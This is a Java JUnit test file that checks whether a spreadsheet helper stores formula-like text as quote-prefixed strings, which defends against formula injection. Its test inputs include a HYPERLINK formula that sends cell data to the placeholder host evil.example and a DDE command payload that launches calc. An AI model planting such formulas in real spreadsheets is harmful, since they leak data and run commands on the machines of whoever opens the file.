package org.innopark.app.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Font;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text that a spreadsheet program could take for a formula is written quote-prefixed, everything else as it is. */
class TextCellsTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
                "+1+2",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "=cmd|' /C calc'!A0"
            })
    void textThatCouldBeAFormulaComesBackAsQuotePrefixedText(String text) throws IOException {
        for (Workbook wb : new Workbook[] {new XSSFWorkbook(), new SXSSFWorkbook(10)}) {
            Cell cell = readBack(wb, text, false);
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(text);
            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"长春远宇医疗器械有限公司", "a=b", "1-2", "—", " =not first", "9122017398460747XF"})
    void otherTextIsWrittenWithoutAQuotePrefix(String text) throws IOException {
        Cell cell = readBack(new XSSFWorkbook(), text, false);
        assertThat(cell.getStringCellValue()).isEqualTo(text);
        assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1"})
    void theCellKeepsItsOwnStyle(String text) throws IOException {
        Cell cell = readBack(new XSSFWorkbook(), text, true);
        assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
        assertThat(cell.getSheet()
                        .getWorkbook()
                        .getFontAt(cell.getCellStyle().getFontIndex())
                        .getBold())
                .isTrue();
    }

    /** Writes the text into A1 (bold first when asked) through TextCells, saves the workbook and reads A1 back. */
    static Cell readBack(Workbook wb, String text, boolean bold) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (wb) {
            Row row = wb.createSheet("s").createRow(0);
            Cell cell = row.createCell(0);
            if (bold) {
                Font font = wb.createFont();
                font.setBold(true);
                CellStyle style = wb.createCellStyle();
                style.setFont(font);
                cell.setCellStyle(style);
            }
            new TextCells(wb).set(cell, text);
            wb.write(out);
        }
        XSSFWorkbook read = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()));
        return read.getSheetAt(0).getRow(0).getCell(0);
    }
}
